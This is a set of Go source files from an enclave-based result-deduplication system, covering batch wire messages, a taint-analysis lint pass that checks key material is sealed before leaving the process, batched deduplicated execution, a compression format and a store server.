const MaxBatchItems = 4096

// BatchGetRequest asks for up to MaxBatchItems tags at once.
type BatchGetRequest struct {
	Tags []mle.Tag
}

// GetResult is one element of a BatchGetResponse, equivalent to a
// GetResponse for the tag at the same position in the request.
type GetResult struct {
	Found  bool
	Sealed mle.Sealed
}

// BatchGetResponse answers a BatchGetRequest; Results[i] answers
// Tags[i].
type BatchGetResponse struct {
	Results []GetResult
}

// PutItem is one element of a BatchPutRequest, equivalent to a
// PutRequest.
type PutItem struct {
	Tag     mle.Tag
	Sealed  mle.Sealed
	Replace bool
}

// BatchPutRequest uploads up to MaxBatchItems results at once.
type BatchPutRequest struct {
	Items []PutItem
}

// PutResult is one element of a BatchPutResponse, equivalent to a
// PutResponse for the item at the same position in the request.
type PutResult struct {
	OK  bool
	Err string
}

// BatchPutResponse answers a BatchPutRequest; Results[i] answers
// Items[i].
type BatchPutResponse struct {
	Results []PutResult
}

// Kind implements Message.
func (BatchGetRequest) Kind() Kind { return KindBatchGetRequest }

// Kind implements Message.
func (BatchGetResponse) Kind() Kind { return KindBatchGetResponse }

// Kind implements Message.
func (BatchPutRequest) Kind() Kind { return KindBatchPutRequest }

// Kind implements Message.
func (BatchPutResponse) Kind() Kind { return KindBatchPutResponse }

// appendCount writes the batch element count.
func appendCount(buf []byte, n int) []byte {
	return binary.BigEndian.AppendUint32(buf, uint32(n))
}

// readCount reads and validates a batch element count.
func readCount(b []byte, kind string) (int, []byte, error) {
	if len(b) < 4 {
		return 0, nil, fmt.Errorf("%w: missing %s count", ErrMalformed, kind)
	}
	n := binary.BigEndian.Uint32(b)
	if n > MaxBatchItems {
		return 0, nil, fmt.Errorf("%w: %s count %d exceeds %d", ErrMalformed, kind, n, MaxBatchItems)
	}
	return int(n), b[4:], nil
}

func (m BatchGetRequest) appendTo(buf []byte) []byte {
	buf = appendCount(buf, len(m.Tags))
	for _, tag := range m.Tags {
		buf = append(buf, tag[:]...)
	}
	return buf
}

func decodeBatchGetRequest(b []byte) (BatchGetRequest, error) {
	var m BatchGetRequest
	n, b, err := readCount(b, "BATCH_GET_REQUEST")
	if err != nil {
		return m, err
	}
	if len(b) != n*mle.TagSize {
		return m, fmt.Errorf("%w: BATCH_GET_REQUEST body %d bytes for %d tags", ErrMalformed, len(b), n)
	}
	m.Tags = make([]mle.Tag, n)
	for i := range m.Tags {
		copy(m.Tags[i][:], b[i*mle.TagSize:])
	}
	return m, nil
}

func (m BatchGetResponse) appendTo(buf []byte) []byte {
	buf = appendCount(buf, len(m.Results))
	for _, r := range m.Results {
		buf = appendBool(buf, r.Found)
		buf = appendSealed(buf, r.Sealed)
	}
	return buf
}

func decodeBatchGetResponse(b []byte) (BatchGetResponse, error) {
	var m BatchGetResponse
	n, b, err := readCount(b, "BATCH_GET_RESPONSE")
	if err != nil {
		return m, err
	}
	m.Results = make([]GetResult, n)
	for i := range m.Results {
		if m.Results[i].Found, b, err = readBool(b); err != nil {
			return BatchGetResponse{}, err
		}
		if m.Results[i].Sealed, b, err = readSealed(b); err != nil {
			return BatchGetResponse{}, err
		}
	}
	if len(b) != 0 {
		return BatchGetResponse{}, fmt.Errorf("%w: trailing bytes in BATCH_GET_RESPONSE", ErrMalformed)
	}
	return m, nil
}

func (m BatchPutRequest) appendTo(buf []byte) []byte {
	buf = appendCount(buf, len(m.Items))
	for _, it := range m.Items {
		buf = append(buf, it.Tag[:]...)
		buf = appendBool(buf, it.Replace)
		buf = appendSealed(buf, it.Sealed)
	}
	return buf
}

func decodeBatchPutRequest(b []byte) (BatchPutRequest, error) {
	var m BatchPutRequest
	n, b, err := readCount(b, "BATCH_PUT_REQUEST")
	if err != nil {
		return m, err
	}
	m.Items = make([]PutItem, n)
	for i := range m.Items {
		if len(b) < mle.TagSize {
			return BatchPutRequest{}, fmt.Errorf("%w: short BATCH_PUT_REQUEST item", ErrMalformed)
		}
		copy(m.Items[i].Tag[:], b[:mle.TagSize])
		b = b[mle.TagSize:]
		if m.Items[i].Replace, b, err = readBool(b); err != nil {
			return BatchPutRequest{}, err
		}
		if m.Items[i].Sealed, b, err = readSealed(b); err != nil {
			return BatchPutRequest{}, err
		}
	}
	if len(b) != 0 {
		return BatchPutRequest{}, fmt.Errorf("%w: trailing bytes in BATCH_PUT_REQUEST", ErrMalformed)
	}
	return m, nil
}

func (m BatchPutResponse) appendTo(buf []byte) []byte {
	buf = appendCount(buf, len(m.Results))
	for _, r := range m.Results {
		buf = appendBool(buf, r.OK)
		buf = appendBytes(buf, []byte(r.Err))
	}
	return buf
}

func decodeBatchPutResponse(b []byte) (BatchPutResponse, error) {
	var m BatchPutResponse
	n, b, err := readCount(b, "BATCH_PUT_RESPONSE")
	if err != nil {
		return m, err
	}
	m.Results = make([]PutResult, n)
	for i := range m.Results {
		if m.Results[i].OK, b, err = readBool(b); err != nil {
			return BatchPutResponse{}, err
		}
		var msg []byte
		if msg, b, err = readBytes(b); err != nil {
			return BatchPutResponse{}, err
		}
		m.Results[i].Err = string(msg)
	}
	if len(b) != 0 {
		return BatchPutResponse{}, fmt.Errorf("%w: trailing bytes in BATCH_PUT_RESPONSE", ErrMalformed)
	}
	return m, nil
}
