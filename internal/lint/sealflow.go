package lint

import (
	"go/ast"
	"strings"
)

// SealFlowAnalyzer proves the central SPEED boundary invariant with
// dataflow instead of convention: key material and enclave plaintext
// must pass through a sealing primitive before reaching any sink that
// leaves the process.
//
// Sources (what taints a value):
//   - key-producer results (mle.KeyGen's recovered key, KeyRec,
//     GenerateKey, HKDF-style derivations — the keyProducers table),
//   - the in-enclave dictionary fields Record.Challenge /
//     Record.WrappedKey and their Sealed envelope counterparts,
//   - byte buffers whose names declare key material (isSecretName with
//     the byte-buffer type gate).
//
// Sinks (where tainted values must not arrive):
//   - conn-like sends (net.Conn / wire.Channel Send/Write family):
//     reject key material — the RCE envelope fields legitimately cross
//     the attested channel, raw keys never do;
//   - file writes (os.File / bufio.Writer / os.WriteFile): reject both
//     key material and plaintext — the untrusted disk only ever sees
//     sealed bytes;
//   - log/telemetry calls (Tracef/Logf/Printf family, fmt/log
//     printers): reject both.
//
// Sanitizers: the seal family (Enclave.Seal, AEAD Seal, mle
// Encrypt/EncryptResult, sealRecord) — their results are ciphertext.
// Taint flows through assignments, slicing, struct fields, append/copy,
// conversions, format helpers and one level of package-local calls
// (callgraph summaries), so a helper that seals internally is
// recognised without annotation.
//
// Trusted packages (the mle/enclave TCB) are exempt: they manipulate
// plaintext by definition and are checked by enclaveboundary's import
// rules instead.
var SealFlowAnalyzer = &Analyzer{
	Name: "sealflow",
	Doc:  "key material and enclave plaintext must be sealed before any conn, disk, or log sink",
	Run:  runSealFlow,
}

// sealerNames are callee names whose results are ciphertext regardless
// of argument taint (crypto/cipher AEAD.Seal included by name).
var sealerNames = map[string]bool{
	"Seal": true, "SealBlob": true, "Encrypt": true, "EncryptResult": true,
	"sealAESGCM": true, "sealAESGCMWithAD": true, "sealRecord": true,
}

// logPkgSinkFuncs are package-level print functions counted as
// log/telemetry sinks ("fmt" and "log" qualifiers). fmt.Errorf is
// deliberately absent: wrapping an error does not leave the process.
var logPkgSinkFuncs = map[string]bool{
	"Print": true, "Printf": true, "Println": true,
	"Fatal": true, "Fatalf": true, "Fatalln": true,
	"Panic": true, "Panicf": true, "Panicln": true,
}

// dictFieldTypes are the named types whose Challenge/WrappedKey fields
// carry in-enclave dictionary secrets: the store engine's Record and
// the MLE Sealed envelope.
func isDictValue(pkg *Package, e ast.Expr) bool {
	return typeIs(pkg, e, "engine", "Record") || typeIs(pkg, e, "mle", "Sealed")
}

func runSealFlow(pass *Pass) {
	pkg := pass.Pkg
	if pass.Config.Trusted(pkg) {
		return
	}
	hooks := sealflowHooks(pkg)
	g := buildCallGraph(pkg)
	hooks.graph = g
	summariseTaint(hooks, g)

	h := *hooks
	h.report = func(arg ast.Expr, mask, accepts taintMask, desc string) {
		if mask&accepts == 0 {
			return // a taint class this sink tolerates
		}
		pass.Reportf(arg.Pos(), "%s reaches %s unsealed; pass it through the seal/RCE primitives first",
			(mask & accepts).describe(), desc)
	}
	inlined := make(map[*ast.FuncLit]bool)
	analyze := func(cfg *funcCFG) {
		r := newTaintRun(&h, cfg)
		r.inlined = inlined // shared: closures report once, at one site
		r.fixpoint(nil)
		r.reportPass()
	}
	for _, n := range g.order {
		analyze(n.summary.cfg)
	}
	// Closures that were never inlined at a call site (stored in a
	// variable, returned) are separate analysis units: captured
	// variables start untainted, but name/field sources re-taint
	// inside.
	for _, n := range g.order {
		ast.Inspect(n.decl.Body, func(x ast.Node) bool {
			if lit, ok := x.(*ast.FuncLit); ok && !inlined[lit] {
				analyze(buildCFG(lit.Body))
			}
			return true
		})
	}
}

// sealflowHooks builds the SPEED source/sink/sanitizer policy.
func sealflowHooks(pkg *Package) *taintHooks {
	return &taintHooks{
		pkg: pkg,

		sourceCall: func(call *ast.CallExpr) []taintMask {
			_, name := calleeParts(call)
			if name == "KeyGen" {
				// (challenge, wrappedKey, key, err): the challenge is an
				// in-enclave dictionary secret, the wrapped key is
				// ciphertext, the recovered key is key material.
				return []taintMask{taintPlain, 0, taintKey, 0}
			}
			if keyProducers[name] {
				return []taintMask{taintKey, 0}
			}
			return nil
		},

		exprTaint: func(e ast.Expr) (taintMask, bool) {
			switch x := e.(type) {
			case *ast.SelectorExpr:
				if isDictValue(pkg, x.X) {
					switch x.Sel.Name {
					case "Challenge", "WrappedKey":
						return taintPlain, true
					default:
						// Blob is AEAD ciphertext; sizes/counters are
						// public. A tainted Record root does not taint
						// them.
						return 0, true
					}
				}
				if isSecretName(x.Sel.Name) && secretTyped(pkg, x.Sel) {
					return taintKey, false
				}
			case *ast.Ident:
				if isSecretName(x.Name) && secretTyped(pkg, x) {
					return taintKey, false
				}
			}
			return 0, false
		},

		sanitizer: func(call *ast.CallExpr) bool {
			_, name := calleeParts(call)
			return sealerNames[name]
		},

		sink: func(call *ast.CallExpr) (taintMask, string) {
			if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok {
				name := sel.Sel.Name
				if path := pkgPathOf(pkg, sel.X); path != "" {
					base := path
					if i := strings.LastIndexByte(base, '/'); i >= 0 {
						base = base[i+1:]
					}
					if (base == "fmt" || base == "log") && logPkgSinkFuncs[name] {
						return taintKey | taintPlain, "a log/telemetry call (" + base + "." + name + ")"
					}
					if isFileWriteCall(pkg, call) {
						return taintKey | taintPlain, "the untrusted disk (" + base + "." + name + ")"
					}
					return 0, ""
				}
				if sinkMethods[name] {
					return taintKey | taintPlain, "a log/telemetry call (" + name + ")"
				}
				if sendMethods[name] && isConnLike(pkg, sel.X, deadlineTargetNames) {
					return taintKey, "the wire (" + exprText(sel.X) + "." + name + ")"
				}
				if (name == "Write" || name == "WriteString") && typeIs(pkg, sel.X, "io", "Writer") {
					return taintKey, "an io.Writer sink (" + exprText(sel.X) + "." + name + ")"
				}
			}
			if isFileWriteCall(pkg, call) {
				return taintKey | taintPlain, "the untrusted disk"
			}
			return 0, ""
		},
	}
}

// secretTyped applies the byte-buffer type gate of isSecretExpr to a
// single identifier: with type info the identifier must be a byte
// buffer; without, the name decides.
func secretTyped(pkg *Package, id *ast.Ident) bool {
	obj := pkg.Info.Uses[id]
	if obj == nil {
		obj = pkg.Info.Defs[id]
	}
	if obj == nil || obj.Type() == nil {
		return true
	}
	return isByteBuffer(obj.Type())
}
