package dedup

import (
	"errors"
	"fmt"
	"sync"
	"time"

	"speed/internal/mle"
	"speed/internal/wire"
)

// BatchResult is one item's outcome from ExecuteBatch. Err is per-item:
// one failed lookup or computation does not poison its batch siblings.
type BatchResult struct {
	Result  []byte
	Outcome Outcome
	Err     error
}

// ExecuteBatch runs the marked computation over many inputs with
// deduplication, amortising the per-call overheads that dominate small
// computations: the batch enters the enclave once, consults the store
// with one batched GET (one OCALL, one wire round trip on a protocol-v2
// connection), computes the misses with bounded parallelism, and
// flushes the fresh results with one batched PUT. Results align with
// inputs positionally.
//
// Coalescing composes with batching: duplicate inputs within the batch
// are computed once and shared (OutcomeCoalesced), items whose tag is
// already in flight in this process join that flight, and the batch's
// own leaders are visible to concurrent Execute callers. A top-level
// error is returned only when the runtime is unusable (closed); store
// and compute failures land in the matching item's Err.
func (rt *Runtime) ExecuteBatch(id mle.FuncID, inputs [][]byte, compute func([]byte) ([]byte, error)) ([]BatchResult, error) {
	n := len(inputs)
	if n == 0 {
		return nil, nil
	}
	rt.mu.Lock()
	if rt.closed {
		rt.mu.Unlock()
		return nil, errors.New("dedup: runtime closed")
	}
	rt.stats.Calls += int64(n)
	rt.mu.Unlock()

	results := make([]BatchResult, n)
	var span *execSpan
	tc, rootSpan := rt.startTrace()
	if rt.tel != nil || rt.cfg.SlowRequestThreshold > 0 {
		span = &execSpan{start: time.Now()}
	}
	err := rt.cfg.Enclave.ECall(func() error {
		rt.executeBatchInEnclave(id, inputs, tc, compute, span, results)
		return nil
	})
	if span != nil {
		total := time.Since(span.start)
		if rt.tel != nil {
			rt.tel.observePhases(span)
			rt.tel.batchItems.Observe(time.Duration(n))
			rt.recordTrace("execute_batch", id, tc, rootSpan, span, 0, total, err)
		}
		rt.maybeSlowLog("execute_batch", id, tc, total, 0, err)
	}
	if err != nil {
		return nil, err
	}
	return results, nil
}

// executeBatchInEnclave is the body of ExecuteBatch, running inside the
// application enclave's ECALL.
func (rt *Runtime) executeBatchInEnclave(id mle.FuncID, inputs [][]byte, tc wire.TraceContext, compute func([]byte) ([]byte, error), span *execSpan, results []BatchResult) {
	n := len(inputs)

	span.begin(phaseTag)
	tags := make([]mle.Tag, n)
	for i := range inputs {
		tags[i] = mle.ComputeTag(id, inputs[i])
	}
	span.end(phaseTag)

	// Partition the batch: the first item for each distinct tag is its
	// leader and owns the lookup/compute/upload; later identical items
	// are followers and share the leader's result. With coalescing on,
	// a tag already in flight elsewhere in the process makes its items
	// joiners of that flight, and each leader registers a flight of its
	// own for concurrent callers to join.
	leaderFor := make(map[mle.Tag]int, n)
	var leaders []int
	followers := make(map[int]int) // item -> its leader item
	joiners := make(map[int]*flight)
	pending := make(map[int]*flight) // leader item -> flight we registered
	coalesce := !rt.cfg.NoCoalesce
	if coalesce {
		rt.flightMu.Lock()
	}
	for i, tag := range tags {
		if li, ok := leaderFor[tag]; ok {
			followers[i] = li
			continue
		}
		if coalesce {
			if f, ok := rt.inflight[tag]; ok {
				joiners[i] = f
				continue
			}
			f := &flight{done: make(chan struct{})}
			rt.inflight[tag] = f
			pending[i] = f
		}
		leaderFor[tag] = i
		leaders = append(leaders, i)
	}
	if coalesce {
		rt.flightMu.Unlock()
	}

	// resolve publishes a leader's final result (or error) to its
	// registered flight and unregisters it. Idempotent per item.
	resolve := func(i int) {
		f, ok := pending[i]
		if !ok {
			return
		}
		delete(pending, i)
		if results[i].Err != nil {
			f.err = results[i].Err
		} else {
			f.result = append([]byte(nil), results[i].Result...)
			f.outcome = results[i].Outcome
		}
		rt.flightMu.Lock()
		delete(rt.inflight, tags[i])
		rt.flightMu.Unlock()
		close(f.done)
	}
	// Panic safety: however this function exits, no registered flight
	// may be left open or later identical calls would block forever.
	// The panic itself still propagates to the caller.
	defer func() {
		for i, f := range pending {
			f.err = fmt.Errorf("dedup: in-flight computation for tag %x... panicked", tags[i][:4])
			rt.flightMu.Lock()
			delete(rt.inflight, tags[i])
			rt.flightMu.Unlock()
			close(f.done)
		}
	}()

	// One batched GET for all leaders, unless the breaker is already
	// open (storeless: everything is computed, as in Execute's
	// degradation mode).
	storeless := rt.degradeEnabled() && rt.Degraded()
	var found []wire.GetResult
	if !storeless && len(leaders) > 0 {
		leaderTags := make([]mle.Tag, len(leaders))
		for j, i := range leaders {
			leaderTags[j] = tags[i]
		}
		span.begin(phaseStoreGet)
		gerr := rt.cfg.Enclave.OCall(func() error {
			var oerr error
			found, oerr = rt.clientGetBatch(tc, leaderTags)
			return oerr
		})
		span.end(phaseStoreGet)
		switch {
		case gerr == nil:
			rt.noteStoreSuccess()
		case !rt.degradeEnabled():
			// Degradation disabled: the transport failure surfaces on
			// every leader (and through their flights), as Execute
			// surfaces it on its single call.
			for _, i := range leaders {
				results[i].Err = fmt.Errorf("query store: %w", gerr)
				resolve(i)
			}
			leaders = nil
		default:
			rt.noteStoreFailure(gerr)
			rt.cfg.Logf("speed: store batch get failed, serving compute-only: %v", gerr)
			storeless = true
			found = nil
		}
	}

	// Verify and decrypt the hits (Algorithm 2 + Fig. 3); collect the
	// misses and the poisoned entries for computation.
	needCompute := make([]int, 0, len(leaders))
	replace := make(map[int]bool)
	if found != nil {
		span.begin(phaseVerifyDecrypt)
		for j, i := range leaders {
			r := found[j]
			if !r.Found {
				needCompute = append(needCompute, i)
				continue
			}
			res, derr := rt.cfg.Scheme.Decrypt(id, inputs[i], r.Sealed)
			if derr == nil {
				results[i] = BatchResult{Result: res, Outcome: OutcomeReused}
				rt.mu.Lock()
				rt.stats.Reused++
				rt.stats.BytesReused += int64(len(res))
				rt.mu.Unlock()
				resolve(i)
				continue
			}
			if !errors.Is(derr, mle.ErrAuthFailed) {
				results[i].Err = fmt.Errorf("decrypt result: %w", derr)
				resolve(i)
				continue
			}
			// With chunking enabled the entry may be a sealed manifest;
			// try reassembling from chunks before condemning it (the
			// same fallback Execute's hit path takes).
			if rt.chunker != nil {
				res, merr := rt.manifestReuse(id, inputs[i], tc, r.Sealed)
				if merr == nil {
					results[i] = BatchResult{Result: res, Outcome: OutcomeReused}
					rt.mu.Lock()
					rt.stats.Reused++
					rt.stats.ManifestReuses++
					rt.stats.BytesReused += int64(len(res))
					rt.mu.Unlock()
					resolve(i)
					continue
				}
				if !errors.Is(merr, errNoManifest) {
					rt.cfg.Logf("speed: chunked reassembly for tag %x... failed: %v; recomputing", tags[i][:4], merr)
				}
			}
			// ⊥: poisoned or corrupted entry; recompute and replace it.
			rt.mu.Lock()
			rt.stats.VerifyFailures++
			rt.mu.Unlock()
			replace[i] = true
			needCompute = append(needCompute, i)
		}
		span.end(phaseVerifyDecrypt)
	} else {
		needCompute = append(needCompute, leaders...)
	}

	// Compute the misses with bounded parallelism. The compute phase is
	// timed as one wall-clock section (execSpan is not
	// goroutine-safe, and the wall time is what the caller feels).
	if len(needCompute) > 0 {
		par := rt.cfg.BatchParallelism
		if par > len(needCompute) {
			par = len(needCompute)
		}
		span.begin(phaseCompute)
		sem := make(chan struct{}, par)
		var wg sync.WaitGroup
		var panicMu sync.Mutex
		var panics []any
		for _, i := range needCompute {
			i := i
			wg.Add(1)
			sem <- struct{}{}
			go func() {
				defer func() {
					if r := recover(); r != nil {
						panicMu.Lock()
						panics = append(panics, r)
						panicMu.Unlock()
						results[i].Err = fmt.Errorf("dedup: compute panicked: %v", r)
					}
					<-sem
					wg.Done()
				}()
				res, cerr := compute(inputs[i])
				if cerr != nil {
					results[i].Err = cerr
					return
				}
				results[i].Result = res
			}()
		}
		wg.Wait()
		span.end(phaseCompute)
		if len(panics) > 0 {
			// Re-raise on the caller's goroutine, as Execute lets a
			// compute panic propagate; the deferred cleanup above fails
			// the open flights first.
			panic(panics[0])
		}
	}

	// Serial post-compute bookkeeping, then one batched PUT flush for
	// everything freshly computed (or a hand-off to the async PUT
	// worker). Leaders keep their flights open until the upload attempt
	// finishes, mirroring Execute's synchronous-PUT semantics.
	computed := make([]int, 0, len(needCompute))
	for _, i := range needCompute {
		if results[i].Err != nil {
			resolve(i)
			continue
		}
		if storeless {
			results[i].Outcome = OutcomeComputed
			rt.mu.Lock()
			rt.stats.Computed++
			rt.stats.Degraded++
			rt.mu.Unlock()
			resolve(i)
			continue
		}
		if replace[i] {
			results[i].Outcome = OutcomeRecomputed
		} else {
			results[i].Outcome = OutcomeComputed
		}
		rt.mu.Lock()
		rt.stats.Computed++
		rt.mu.Unlock()
		computed = append(computed, i)
	}
	if len(computed) > 0 {
		if rt.cfg.AsyncPut {
			for _, i := range computed {
				rt.enqueuePut(putJob{id: id, input: inputs[i], result: results[i].Result, tag: tags[i], replace: replace[i], tc: tc})
				resolve(i)
			}
		} else {
			// Results at or above the chunk threshold go chunk-wise (the
			// same routing sealAndPut applies); chunkedPut manages its own
			// encrypt/put phases and OCALLs. The rest are sealed whole and
			// uploaded in one batch below.
			whole := computed
			if rt.chunker != nil {
				whole = make([]int, 0, len(computed))
				for _, i := range computed {
					if len(results[i].Result) >= rt.cfg.ChunkThreshold {
						cerr := rt.chunkedPut(id, inputs[i], results[i].Result, tags[i], replace[i], tc, span)
						if cerr == nil {
							continue
						}
						if !errors.Is(cerr, errTooManyChunks) {
							// A failed upload only loses future reuse; the
							// caller still gets its freshly computed result.
							rt.notePutError(cerr)
							continue
						}
						// Too many chunks for one manifest: store it whole.
					}
					whole = append(whole, i)
				}
			}
			span.begin(phaseEncrypt)
			items := make([]wire.PutItem, 0, len(whole))
			for _, i := range whole {
				sealed, eerr := rt.cfg.Scheme.Encrypt(id, inputs[i], results[i].Result)
				if eerr != nil {
					// A failed upload only loses future reuse; the
					// caller still gets its freshly computed result.
					rt.notePutError(fmt.Errorf("encrypt result: %w", eerr))
					resolve(i)
					continue
				}
				items = append(items, wire.PutItem{Tag: tags[i], Sealed: sealed, Replace: replace[i]})
			}
			span.end(phaseEncrypt)
			if len(items) > 0 {
				span.begin(phaseStorePut)
				var prs []wire.PutResult
				perr := rt.cfg.Enclave.OCall(func() error {
					var oerr error
					prs, oerr = rt.clientPutBatch(tc, items)
					return oerr
				})
				span.end(phaseStorePut)
				if perr != nil {
					rt.notePutError(perr)
				} else {
					for _, pr := range prs {
						if !pr.OK {
							rt.notePutError(fmt.Errorf("%w: %s", ErrPutRejected, pr.Err))
						}
					}
				}
			}
			for _, i := range computed {
				resolve(i)
			}
		}
	}

	// Followers copy their leader's result.
	for i, li := range followers {
		if results[li].Err != nil {
			results[i].Err = results[li].Err
			continue
		}
		results[i] = BatchResult{
			Result:  append([]byte(nil), results[li].Result...),
			Outcome: OutcomeCoalesced,
		}
		rt.mu.Lock()
		rt.stats.Coalesced++
		rt.stats.BytesReused += int64(len(results[i].Result))
		rt.mu.Unlock()
	}

	// Joiners wait on flights owned by concurrent callers outside this
	// batch.
	if len(joiners) > 0 {
		span.begin(phaseCoalesceWait)
		for i, f := range joiners {
			<-f.done
			if f.err != nil {
				results[i].Err = f.err
				continue
			}
			results[i] = BatchResult{
				Result:  append([]byte(nil), f.result...),
				Outcome: OutcomeCoalesced,
			}
			rt.mu.Lock()
			rt.stats.Coalesced++
			rt.stats.BytesReused += int64(len(results[i].Result))
			rt.mu.Unlock()
		}
		span.end(phaseCoalesceWait)
	}
}

// clientGetBatch issues one batched GET through the client — via the
// traced variant when the batch is sampled and the client supports it —
// falling back to a per-tag loop when the client predates BatchClient.
func (rt *Runtime) clientGetBatch(tc wire.TraceContext, tags []mle.Tag) ([]wire.GetResult, error) {
	if tc.Valid() && rt.traced != nil {
		res, err := rt.traced.GetBatchTraced(tc, tags)
		if err != nil {
			return nil, err
		}
		if len(res) != len(tags) {
			return nil, fmt.Errorf("dedup: batch get returned %d results for %d tags", len(res), len(tags))
		}
		return res, nil
	}
	if bc, ok := rt.cfg.Client.(BatchClient); ok {
		res, err := bc.GetBatch(tags)
		if err != nil {
			return nil, err
		}
		if len(res) != len(tags) {
			return nil, fmt.Errorf("dedup: batch get returned %d results for %d tags", len(res), len(tags))
		}
		return res, nil
	}
	res := make([]wire.GetResult, len(tags))
	for i, tag := range tags {
		sealed, ok, err := rt.cfg.Client.Get(tag)
		if err != nil {
			return nil, err
		}
		res[i] = wire.GetResult{Found: ok, Sealed: sealed}
	}
	return res, nil
}

// clientPutBatch issues one batched PUT through the client — via the
// traced variant when the batch is sampled and the client supports it —
// falling back to a per-item loop when the client predates BatchClient.
func (rt *Runtime) clientPutBatch(tc wire.TraceContext, items []wire.PutItem) ([]wire.PutResult, error) {
	if tc.Valid() && rt.traced != nil {
		res, err := rt.traced.PutBatchTraced(tc, items)
		if err != nil {
			return nil, err
		}
		if len(res) != len(items) {
			return nil, fmt.Errorf("dedup: batch put returned %d results for %d items", len(res), len(items))
		}
		return res, nil
	}
	if bc, ok := rt.cfg.Client.(BatchClient); ok {
		res, err := bc.PutBatch(items)
		if err != nil {
			return nil, err
		}
		if len(res) != len(items) {
			return nil, fmt.Errorf("dedup: batch put returned %d results for %d items", len(res), len(items))
		}
		return res, nil
	}
	res := make([]wire.PutResult, len(items))
	for i, it := range items {
		err := rt.cfg.Client.Put(it.Tag, it.Sealed, it.Replace)
		switch {
		case errors.Is(err, ErrPutRejected):
			res[i] = wire.PutResult{OK: false, Err: err.Error()}
		case err != nil:
			return nil, err
		default:
			res[i] = wire.PutResult{OK: true}
		}
	}
	return res, nil
}
