package compress

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
)

// Container format:
//
//	magic   [3]byte  "SZ1"
//	mode    byte     0 = Huffman-coded tokens, 1 = raw tokens
//	origLen uvarint  original payload length
//	crc     uint32   CRC-32 (IEEE) of the original payload
//	tokLen  uvarint  token-stream length (before Huffman)
//	if mode == 0:
//	    lens [128]byte  256 nibble-packed code lengths
//	body    bytes    Huffman bitstream or raw token stream

var magic = [3]byte{'S', 'Z', '1'}

const (
	modeHuffman = 0
	modeRaw     = 1
)

// ErrCorrupt is returned when decompression detects invalid or
// tampered input.
var ErrCorrupt = errors.New("compress: corrupt input")

// Compress compresses src at the default effort level (5). The output
// always round-trips through Decompress, falling back to raw token
// storage when Huffman coding does not pay off.
func Compress(src []byte) []byte {
	return CompressLevel(src, 0)
}

// CompressLevel compresses src with an explicit effort level 1 (fast,
// weaker matches) through 9 (slow, best matches), like zlib's levels;
// 0 selects the default (5). The container format is identical across
// levels, so Decompress handles any of them.
func CompressLevel(src []byte, level int) []byte {
	tokens := lzCompressLevel(src, levelParams(level))

	var freq [256]int64
	for _, b := range tokens {
		freq[b]++
	}
	lengths := buildCodeLengths(freq)
	codes := canonicalCodes(lengths)

	var bw bitWriter
	bw.buf = make([]byte, 0, len(tokens)/2+64)
	for _, b := range tokens {
		bw.writeBits(codes[b], lengths[b])
	}
	huff := bw.flush()

	mode := byte(modeHuffman)
	body := huff
	if len(huff)+128 >= len(tokens) {
		mode = modeRaw
		body = tokens
	}

	out := make([]byte, 0, len(body)+160)
	out = append(out, magic[:]...)
	out = append(out, mode)
	out = binary.AppendUvarint(out, uint64(len(src)))
	out = binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(src))
	out = binary.AppendUvarint(out, uint64(len(tokens)))
	if mode == modeHuffman {
		var packed [128]byte
		for s := 0; s < 256; s += 2 {
			packed[s/2] = lengths[s]<<4 | lengths[s+1]
		}
		out = append(out, packed[:]...)
	}
	return append(out, body...)
}

// Decompress reverses Compress, verifying the embedded checksum.
func Decompress(data []byte) ([]byte, error) {
	if len(data) < 4 || data[0] != magic[0] || data[1] != magic[1] || data[2] != magic[2] {
		return nil, fmt.Errorf("%w: bad magic", ErrCorrupt)
	}
	mode := data[3]
	rest := data[4:]

	origLen, n := binary.Uvarint(rest)
	if n <= 0 || origLen > 1<<32 {
		return nil, fmt.Errorf("%w: bad length", ErrCorrupt)
	}
	rest = rest[n:]
	if len(rest) < 4 {
		return nil, fmt.Errorf("%w: missing checksum", ErrCorrupt)
	}
	wantCRC := binary.BigEndian.Uint32(rest)
	rest = rest[4:]
	tokLen, n := binary.Uvarint(rest)
	if n <= 0 || tokLen > 2<<32 {
		return nil, fmt.Errorf("%w: bad token length", ErrCorrupt)
	}
	rest = rest[n:]

	var tokens []byte
	switch mode {
	case modeHuffman:
		if len(rest) < 128 {
			return nil, fmt.Errorf("%w: missing code lengths", ErrCorrupt)
		}
		var lengths [256]uint8
		for s := 0; s < 256; s += 2 {
			lengths[s] = rest[s/2] >> 4
			lengths[s+1] = rest[s/2] & 0x0F
		}
		rest = rest[128:]
		dec := newHuffDecoder(lengths)
		if dec.maxLen == 0 && tokLen > 0 {
			return nil, fmt.Errorf("%w: empty code", ErrCorrupt)
		}
		br := &bitReader{buf: rest}
		tokens = make([]byte, tokLen)
		for i := range tokens {
			sym, err := dec.decode(br)
			if err != nil {
				return nil, fmt.Errorf("%w: bitstream", ErrCorrupt)
			}
			tokens[i] = sym
		}
	case modeRaw:
		if uint64(len(rest)) != tokLen {
			return nil, fmt.Errorf("%w: raw token length", ErrCorrupt)
		}
		tokens = rest
	default:
		return nil, fmt.Errorf("%w: unknown mode %d", ErrCorrupt, mode)
	}

	out, err := lzDecompress(tokens, int(origLen))
	if err != nil {
		return nil, fmt.Errorf("%w: token stream", ErrCorrupt)
	}
	if crc32.ChecksumIEEE(out) != wantCRC {
		return nil, fmt.Errorf("%w: checksum mismatch", ErrCorrupt)
	}
	return out, nil
}

// Ratio reports the compression ratio achieved for src (original size
// divided by compressed size).
func Ratio(src []byte) float64 {
	if len(src) == 0 {
		return 1
	}
	return float64(len(src)) / float64(len(Compress(src)))
}
