package store

import (
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"speed/internal/enclave"
	"speed/internal/telemetry"
	"speed/internal/wire"
)

// Server exposes a Store over the wire protocol. The main body of the
// server runs outside the enclave (Section IV-B: "the main body of
// encrypted ResultStore runs outside the enclave"); each request is
// parsed outside and delegated into the store enclave via an ECALL.
type Server struct {
	store  *Store
	ln     net.Listener
	accept func(enclave.Measurement) bool
	trust  *wire.Trust
	logf   func(format string, args ...any)

	// Connection deadlines, so a stalled or half-open peer can never
	// wedge a handler goroutine (see the WithXxxTimeout options).
	handshakeTimeout time.Duration
	idleTimeout      time.Duration
	writeTimeout     time.Duration

	// maxInflight caps concurrently-executing requests per v2 session
	// (and sizes that session's worker pool); maxProtocol is the highest
	// protocol version offered in the handshake.
	maxInflight int
